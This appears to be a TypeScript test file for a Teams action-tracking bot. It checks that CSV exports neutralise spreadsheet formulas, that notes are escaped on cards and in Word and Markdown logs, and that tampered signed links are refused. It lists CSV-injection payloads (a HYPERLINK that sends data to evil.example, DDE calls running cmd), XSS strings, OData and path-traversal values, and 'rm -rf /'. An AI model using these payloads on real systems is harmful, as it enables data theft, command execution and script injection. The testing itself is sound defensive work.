// What people typed comes back out as text, whatever it holds: spreadsheet formulas in the CSV
// action log are neutralised (led by an invisible word joiner, so no spreadsheet runs them), HTML and markdown in notes are
// shown literally on the owner's card and escaped in the Word document; and a forged or tampered
// link to the action log is refused in plain words.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLinks, type Links } from '../../bot/services/links.ts';
import { parseCsv } from '../../bot/rules/csv.ts';
import { closeBoard, execute, say, textOf } from '../helpers/bot-board.ts';
import { unzip } from '../helpers/unzip.ts';
import { visibleTexts } from '../helpers/validate-card.ts';
import { expectNoLeak, itLeftTheBoardUnchanged, knownSecrets } from './hostile.ts';
import { hostileTeamsBoard, type HostileTeamsBoard } from './teams-board.ts';

// The harness signs its links with this key (tests/helpers/bot-harness.ts).
const [LINK_SECRET] = knownSecrets() as [string];
const NEXT_MEETING = '2023-04-11';

/** Spreadsheet formulas (OWASP CSV injection) as they could arrive in an action's text or a note. */
const FORMULAS: Array<[string, string]> = [
  ['a HYPERLINK', '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'],
  ['a DDE call', "=cmd|' /C calc'!A0"],
  ['a plus formula', "+1+cmd|' /C calc'!A0"],
  ['a minus formula', '-2+3+SUM(A1:A9)'],
  ['an at formula', '@SUM(1+1)*cmd|" /C calc"!A0'],
  ['a formula behind a tab', '\t=1+1'],
  ['a formula behind a space', ' =1+1'],
  ['an OData string', "' or 1 eq 1"],
];

/** Markup in a note: on the card and in Word, shown as typed. */
const MARKUP: Array<[string, string]> = [
  ['a script tag', '<script>alert(1)</script>'],
  ['an image with onerror', '<img src=x onerror=alert(1)>'],
  ['bold, italic and strike', '**bold** _italic_ ~~gone~~'],
  ['a javascript link', '[click me](javascript:alert(1))'],
  ['an autolink', '<https://evil.example/>'],
  ['a heading', '# Not a heading'],
  ['a list and a quote', '1. first\n- second\n> quoted'],
  ['a table', '| a | b |\n| --- | --- |'],
  ['an entity', '&lt;b&gt; and &#42;'],
  ['inline code', '`rm -rf /`'],
];

/** A spreadsheet shows a cell as text when it does not start with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A character that starts markup in a TextBlock, not escaped with a backslash. */
const UNESCAPED_MARKUP = /(^|[^\\])[*_~`[\]<]/m;
/** Markdown's escapes removed: what a TextBlock shows. */
const unescapeMarkdown = (s: string): string => s.replace(/\\([!-/:-@[-`{-~])/g, '$1');

describe('people’s words come back as text', () => {
  let board: HostileTeamsBoard;
  let links: Links;
  const clock = (): Date => board.clock?.now() ?? new Date();
  /** Reference of each case's action, by the text or note it carries. */
  const refOf = new Map<string, string>();
  /** The card each markup note was answered with. */
  const cards = new Map<string, Record<string, unknown>>();
  let csv: string[][];
  let wordXml: string;
  let markdown: string;

  beforeAll(async () => {
    board = await hostileTeamsBoard();
    // The bot's clock (links expire by it).
    links = createLinks({ baseUrl: board.bot.base, secret: Buffer.from(LINK_SECRET), now: () => clock() });
    // Each formula as an action's text (imported) and as a note (an owner's reply), one action each.
    const lines: string[] = [];
    let n = 10;
    for (const [, formula] of FORMULAS) {
      n++;
      lines.push(`${n}.14/03/2023  JD - ${formula.replace(/^[\t ]+/, '')}`);
      refOf.set(`text:${formula}`, `${n}.14/03/2023`);
    }
    const noteHolders = [...FORMULAS, ...MARKUP].map(([, value]) => {
      n++;
      lines.push(`${n}.14/03/2023  JD - Note holder ${n}`);
      refOf.set(`note:${value}`, `${n}.14/03/2023`);
      return { value, id: `2023-03-14.n0${n}` };
    });
    const [report] = await say(board, board.users.PN, `import\n${lines.join('\n')}`);
    expect(textOf(report)).toContain(`${lines.length} imported`);
    for (const { value, id } of noteHolders) {
      const answer = await execute(
        board,
        board.users.JD,
        'action.reply',
        { actionId: id, version: 1 },
        { note: value },
      );
      expect(textOf(answer.card)).toContain('Saved');
      cards.set(value, answer.card);
    }
    const scope = board.t.scope;
    const fetched = async (format: 'csv' | 'md' | 'docx') => {
      const res = await fetch(links.digest(scope, NEXT_MEETING, format));
      expect(res.status).toBe(200);
      return Buffer.from(await res.arrayBuffer());
    };
    csv = parseCsv((await fetched('csv')).toString('utf8'));
    markdown = (await fetched('md')).toString('utf8');
    wordXml =
      unzip(await fetched('docx'))
        .get('word/document.xml')
        ?.toString('utf8') ?? '';
    // The owners' cards and the channel summary go out first: refusals are checked against a settled board.
    await board.bot.teams.sender.drain();
    board.unchanged.reset();
    await board.unchanged.ready();
  });
  afterAll(async () => closeBoard(board));

  // The CSV's columns: Number, Item and Latest update (DIGEST_CSV_HEADER).
  const [NUMBER, ITEM, UPDATE] = [2, 3, 5];
  /** A value as the CSV writes it: led by a word joiner when a spreadsheet would run it. */
  const defused = (v: string): string => (FORMULA_START.test(v) ? `\u2060${v}` : v);
  const row = (ref: string | undefined): string[] => {
    const found = csv.find((r) => r[NUMBER] === ref);
    if (!found) throw new Error(`no CSV row for ${ref}`);
    return found;
  };

  describe('the CSV action log neutralises formulas', () => {
    it.each(FORMULAS)('%s as an action’s text', (_name, formula) => {
      const text = row(refOf.get(`text:${formula}`))[ITEM] ?? '';
      const typed = formula.trim();
      expect(text).not.toMatch(FORMULA_START);
      expect(text).toBe(defused(typed));
    });
    it.each(FORMULAS)('%s as a note', (_name, formula) => {
      const update = row(refOf.get(`note:${formula}`))[UPDATE] ?? '';
      const typed = formula.trim();
      expect(update).not.toMatch(FORMULA_START);
      expect(update).toBe(defused(typed));
    });
    it('no cell of the whole log starts a formula', () => {
      for (const cells of csv) for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    });
  });

  describe('markup in a note is shown as typed', () => {
    it.each(MARKUP)('%s on the owner’s card', (_name, note) => {
      // The TextBlock holding the note: every markup character in it is escaped, so it shows as typed.
      const block = visibleTexts(cards.get(note)).find((b) =>
        unescapeMarkdown(b).includes(note.split('\n')[0] ?? note),
      );
      expect(block, JSON.stringify(visibleTexts(cards.get(note)))).toBeDefined();
      expect(block).not.toMatch(UNESCAPED_MARKUP);
      expect(unescapeMarkdown(block ?? '').replace(/\n\n/g, '\n')).toContain(note);
    });
    it.each(MARKUP)('%s in the Word action log', (_name, note) => {
      const xmlText = note.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
      // Line breaks become Word breaks: each line is in the document, escaped.
      for (const line of xmlText.split('\n')) expect(wordXml).toContain(line);
      expect(wordXml).not.toContain('<script>');
      expect(wordXml).not.toContain('<img');
    });
    it.each(MARKUP)('%s in the Markdown action log is shown as typed, inside its table row', (_name, note) => {
      const line = markdown.split('\n').find((l) => l.startsWith(`| ${refOf.get(`note:${note}`)} |`)) ?? '';
      // Three cells (Number | Item | Action): a pipe or line break in the note cannot open a fourth or end the row.
      expect(line.replace(/\\\\/g, '').match(/(?<!\\)\|/g)).toHaveLength(4);
      // No markup survives in the people's words (the Item cell; the Action cell's bold is the
      // log's own): no tag but the row's own line breaks (a '<' that could open one is escaped),
      // no unescaped mark or bracket.
      const item = line.split(/(?<!\\) \| /)[1] ?? '';
      expect(item.replace(/\\\\/g, '')).not.toMatch(/(?<!\\)<(?!br>)/);
      expect(item.replace(/\\\\/g, '')).not.toMatch(/(?<!\\)[*_~`[\]]/);
      // And read back as Markdown reads it, the update in the Item cell is the note, line for line.
      const said = 'Latest update (Jane Doe, 20/03/2023): ';
      const shown = item
        .slice(item.indexOf(said) + said.length)
        .replace(/<br>/g, '\n')
        .replace(/\\(.)/g, '$1');
      expect(item).toContain(said);
      expect(shown).toBe(note);
    });
    it.each(MARKUP)('%s in the CSV action log, verbatim', (_name, note) => {
      expect(row(refOf.get(`note:${note}`))[UPDATE]).toBe(defused(note));
    });
  });

  describe('forged and tampered links to the action log', () => {
    const tamper = (url: string, edit: (q: URLSearchParams) => void): string => {
      const u = new URL(url);
      edit(u.searchParams);
      return u.toString();
    };
    const forged: Array<[string, () => string]> = [
      ['no signature', () => tamper(links.digest(board.t.scope, NEXT_MEETING, 'csv'), (q) => q.delete('sig'))],
      [
        'a signature from another key',
        () =>
          createLinks({
            baseUrl: board.bot.base,
            secret: Buffer.from('another secret that is long enough!!'),
            now: () => new Date(),
          }).digest(board.t.scope, NEXT_MEETING, 'csv'),
      ],
      [
        'another meeting under the same signature',
        () => tamper(links.digest(board.t.scope, NEXT_MEETING, 'csv'), (q) => q.set('meeting', '2023-03-14')),
      ],
      [
        'an OData meeting',
        () =>
          tamper(links.digest(board.t.scope, NEXT_MEETING, 'csv'), (q) => q.set('meeting', "2023-04-11' or 1 eq 1")),
      ],
      [
        'a format that is not one',
        () => tamper(links.digest(board.t.scope, NEXT_MEETING, 'csv'), (q) => q.set('format', 'exe')),
      ],
      [
        'the open form turned into the full form',
        () => tamper(links.digest(board.t.scope, NEXT_MEETING, 'docx', 'open'), (q) => q.delete('form')),
      ],
      [
        'another board',
        () => tamper(links.digest(board.t.scope, NEXT_MEETING, 'csv'), (q) => q.set('board', '../OTHER')),
      ],
      [
        'an expiry pushed back',
        () => tamper(links.digest(board.t.scope, NEXT_MEETING, 'csv'), (q) => q.set('exp', '99999999999999')),
      ],
      [
        'an expired link',
        () =>
          createLinks({
            baseUrl: board.bot.base,
            secret: Buffer.from(LINK_SECRET),
            now: () => new Date(clock().getTime() - 30 * 86_400_000),
          }).digest(board.t.scope, NEXT_MEETING, 'csv'),
      ],
      ['a parameter given twice', () => `${links.digest(board.t.scope, NEXT_MEETING, 'csv')}&meeting=2023-03-14`],
    ];
    it.each(forged)('%s', async (_name, url) => {
      const logFrom = board.bot.logs.length;
      const res = await fetch(url());
      const text = await res.text();
      expect(res.status, text).toBe(403);
      expect(JSON.parse(text)).toEqual({
        error: 'this link is not valid, or has expired: ask the bot for the digest again',
      });
      expectNoLeak(text);
      expect(board.bot.logs.slice(logFrom).filter((l) => l.includes('"level":"error"'))).toEqual([]);
    });
    itLeftTheBoardUnchanged(() => board.unchanged);
  });
});
